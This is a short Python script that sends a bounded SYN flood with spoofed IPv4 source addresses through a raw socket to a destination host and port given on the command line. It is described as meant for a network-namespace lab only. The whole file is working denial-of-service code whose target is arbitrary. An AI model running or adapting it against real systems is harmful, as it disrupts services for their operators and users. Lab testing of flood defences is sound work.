#!/usr/bin/env python3
"""Bounded SYN flood with spoofed IPv4 sources, for the netns lab only.

  synflood.py DST PORT SOURCES [REPEAT] [SECONDS]

Sends REPEAT (default 2) identical SYNs (same ISN: a retransmission, so
each source weighs as an anomalous peer) from each of SOURCES distinct
addresses in 198.18.0.0/15 (the benchmarking range, never routed back) to
DST:PORT through a raw socket, stops after SECONDS (default 20) at the
latest, and prints how many frames it sent.
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, isn):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # Total length and header checksum are filled in by the kernel (IP_HDRINCL).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, 6, 0, src, dst)
    return ip + tcp


def main():
    dst, port, sources = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    repeat = int(sys.argv[4]) if len(sys.argv) > 4 else 2
    deadline = time.monotonic() + (float(sys.argv[5]) if len(sys.argv) > 5 else 20)
    rng = random.Random(5)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    dst_b = socket.inet_aton(dst)
    base = struct.unpack("!I", socket.inet_aton("198.18.0.0"))[0]
    picked = rng.sample(range(1, 1 << 17), sources)
    sent = 0
    for n in picked:
        if time.monotonic() > deadline:
            break
        frame = syn(struct.pack("!I", base + n), dst_b, rng.randrange(1024, 65535), port,
                    rng.getrandbits(32))
        for _ in range(repeat):
            s.sendto(frame, (dst, 0))
            sent += 1
    print(sent, flush=True)


if __name__ == "__main__":
    main()
